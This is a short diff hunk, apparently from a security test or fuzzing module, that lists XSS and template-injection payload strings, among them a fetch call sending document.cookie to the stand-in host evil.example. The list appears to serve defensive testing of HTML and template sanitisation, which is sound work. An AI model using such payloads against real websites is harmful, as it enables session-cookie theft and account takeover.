@@ -47,9 +47,7 @@ _RUNS: Final = (
     "<marquee onstart={}>",
 )
 
-
 _CALLS: Final = ("alert(1)", "fetch('http://evil.example/?'+document.cookie)", "window.owned=1")
-
 
 _ODD: Final = (
     "{{ 7 * 7 }}{% raw %}{{ t }}",
